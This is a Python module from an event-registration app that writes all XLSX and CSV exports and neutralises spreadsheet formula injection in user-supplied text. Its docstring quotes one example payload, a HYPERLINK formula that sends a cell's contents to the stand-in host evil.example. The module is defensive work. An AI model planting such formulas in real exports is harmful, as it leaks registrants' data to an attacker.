"""The one export writer: every workbook (XLSX) and CSV file the app hands out is written here.

User text is written as text, never as a formula. Anyone can register, so a name such as
``=HYPERLINK("http://evil.example/?x="&B3,"王五")`` must reach the organiser's spreadsheet as
those characters: in a workbook such a value is stored as a string cell (openpyxl would
otherwise store it as a live formula); in CSV, which has no cell types, a value that starts
with ``= + - @``, a tab or a carriage return gets a leading apostrophe, as spreadsheet programs
expect, so that they show it instead of evaluating it. Characters a workbook cannot hold
(control characters) are dropped rather than failing the export. Numbers and ``None`` are
written as they are.

Dates and times are real date cells, so that a spreadsheet sorts and filters them: a moment
(an aware ``datetime``) is shown in the summit's time zone (``Book(zone=...)``), and the header
of each column holding moments or times of day names that zone (北京时间 for Asia/Shanghai).
In CSV, which has no cell types, they are written as local text with the same header.

`tests/app/test_layout.py` fails when a module outside this one creates a workbook or a CSV
writer, so that no export can bypass these rules.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import UTC, date, datetime, time
from typing import Any
from zoneinfo import ZoneInfo

from flask_babel import gettext as _, lazy_gettext as _l
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from summit.services.core.spreadsheets import Column, header_text
from summit.services.core.timezones import zone_label

XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIMETYPE = "text/csv"
# What makes a spreadsheet program read a CSV value as a formula (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
DATE_FORMAT = "yyyy-mm-dd"
TIME_FORMAT = "hh:mm"


def _text(value: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def _local(value: Any, zone: ZoneInfo | None) -> Any:
    """A moment as the summit's wall-clock time (workbooks hold no time zones)."""
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.astimezone(zone or UTC).replace(tzinfo=None)
    return value


def _cell_format(value: Any) -> str | None:
    if isinstance(value, datetime):
        return DATETIME_FORMAT
    if isinstance(value, date):
        return DATE_FORMAT
    if isinstance(value, time):
        return TIME_FORMAT
    return None


def _zoned(value: Any) -> bool:
    """A value whose reader needs to know the zone: a moment or a time of day."""
    return isinstance(value, (datetime, time))


def zone_header(header: Any, zone_name: str | None) -> str:
    """A column header naming the zone of its times: "签到时间（北京时间）"."""
    words = zone_label(zone_name) if zone_name else "UTC"
    return _("%(header)s (%(zone)s)", header=header, zone=words)


def csv_value(value: Any) -> Any:
    """A value as a CSV cell: text that a spreadsheet would evaluate gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _csv_text(value: Any, zone: ZoneInfo | None) -> Any:
    value = _local(value, zone)
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, time):
        return value.strftime("%H:%M")
    return csv_value(value)


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]],
              zone: str | None = None) -> bytes:
    """UTF-8 CSV with a byte-order mark, so that Excel opens Chinese text correctly. Moments
    are written in ``zone``, and the headers of their columns name it."""
    rows = [list(row) for row in rows]
    zoned = {i for row in rows for i, value in enumerate(row) if _zoned(value)}
    local = ZoneInfo(zone) if zone else None
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_value(zone_header(h, zone) if i in zoned else str(h))
                     for i, h in enumerate(header)])
    writer.writerows([_csv_text(v, local) for v in row] for row in rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


class Sheet:
    """One worksheet; `append` is the only way rows get in."""

    def __init__(self, worksheet: Worksheet, zone: str | None = None) -> None:
        self.worksheet = worksheet
        self.zone = zone
        self._local = ZoneInfo(zone) if zone else None
        self.has_header = False
        self.zoned_columns: set[int] = set()
        self._named: set[int] = set()

    def append(self, row: Sequence[Any]) -> None:
        values = [_text(v) if isinstance(v, str) else _local(v, self._local) for v in row]
        self.worksheet.append(values)
        number = self.worksheet.max_row
        for column, value in enumerate(values, start=1):
            if isinstance(value, str) and value.startswith("="):
                # Stored as a shared string: Excel shows the characters, never evaluates them.
                self.worksheet.cell(row=number, column=column).data_type = "s"
            elif (fmt := _cell_format(value)) is not None:
                self.worksheet.cell(row=number, column=column).number_format = fmt
                if _zoned(value):
                    self.zoned_columns.add(column)

    def name_zone_in_header(self) -> None:
        if not self.has_header:
            return
        for column in self.zoned_columns - self._named:
            cell = self.worksheet.cell(row=1, column=column)
            cell.value = zone_header(cell.value, self.zone)
        self._named |= self.zoned_columns

    def extend(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.append(row)

    def widths(self, widths: Sequence[float]) -> None:
        for index, width in enumerate(widths, start=1):
            self.worksheet.column_dimensions[get_column_letter(index)].width = width

    def number_format(self, column: int, fmt: str, *, first_row: int = 2,
                      last_row: int | None = None) -> None:
        """Format a column's cells (`last_row` also formats empty cells below the data)."""
        last = last_row or self.worksheet.max_row
        for number in range(first_row, last + 1):
            self.worksheet.cell(row=number, column=column).number_format = fmt


class Book:
    """A workbook of sheets; `sheet(...)` adds one with its header row."""

    def __init__(self, zone: str | None = None) -> None:
        """``zone``: the summit's time zone, in which moments are shown."""
        self._workbook = Workbook()
        self._unused = self._workbook.active
        self.zone = zone
        self._sheets: list[Sheet] = []

    def sheet(self, title: str, header: Sequence[Any] = (), *, bold: bool = False,
              freeze: bool = False) -> Sheet:
        # Excel refuses sheet titles over 31 characters or with []:*?/\ in them.
        safe = _text("".join(" " if c in "[]:*?/\\" else c for c in str(title)))[:31] or "-"
        sheet = Sheet(self._workbook.create_sheet(safe), self.zone)
        self._sheets.append(sheet)
        if header:
            sheet.append([str(h) for h in header])
            sheet.has_header = True
            if bold:
                for cell in sheet.worksheet[1]:
                    cell.font = Font(bold=True)
        if freeze:
            sheet.worksheet.freeze_panes = "A2"
        return sheet

    def save(self) -> bytes:
        for sheet in self._sheets:
            sheet.name_zone_in_header()
        if self._unused is not None and len(self._workbook.sheetnames) > 1:
            self._workbook.remove(self._unused)
            self._unused = None
        buffer = io.BytesIO()
        self._workbook.save(buffer)
        return buffer.getvalue()


def table_bytes(fmt: str, title: str, header: Sequence[Any],
                rows: Iterable[Sequence[Any]], zone: str | None = None) -> bytes:
    """One table as CSV (`fmt == "csv"`) or as a one-sheet workbook."""
    if fmt == "csv":
        return csv_bytes(header, rows, zone)
    book = Book(zone)
    book.sheet(title, header).extend(rows)
    return book.save()


def import_template(title: str, columns: Sequence[Column], example: dict[str, str],
                    allowed: dict[str, str]) -> bytes:
    """The workbook people fill in for an import: the columns (text-formatted, so leading
    zeros and 18-digit ID numbers survive), one example row, and a help sheet."""
    book = Book()
    sheet = book.sheet(title, [header_text(column) for column in columns])
    sheet.widths([column.width for column in columns])
    for index in range(1, len(columns) + 1):
        sheet.number_format(index, "@", last_row=501)
    sheet.append([example.get(column.key, "") for column in columns])
    help_sheet = book.sheet("help", (_l("Column"), _l("Required"), _l("Allowed values")))
    for column in columns:
        help_sheet.append([header_text(column), "✓" if column.required else "",
                           allowed.get(column.key, "")])
    return book.save()
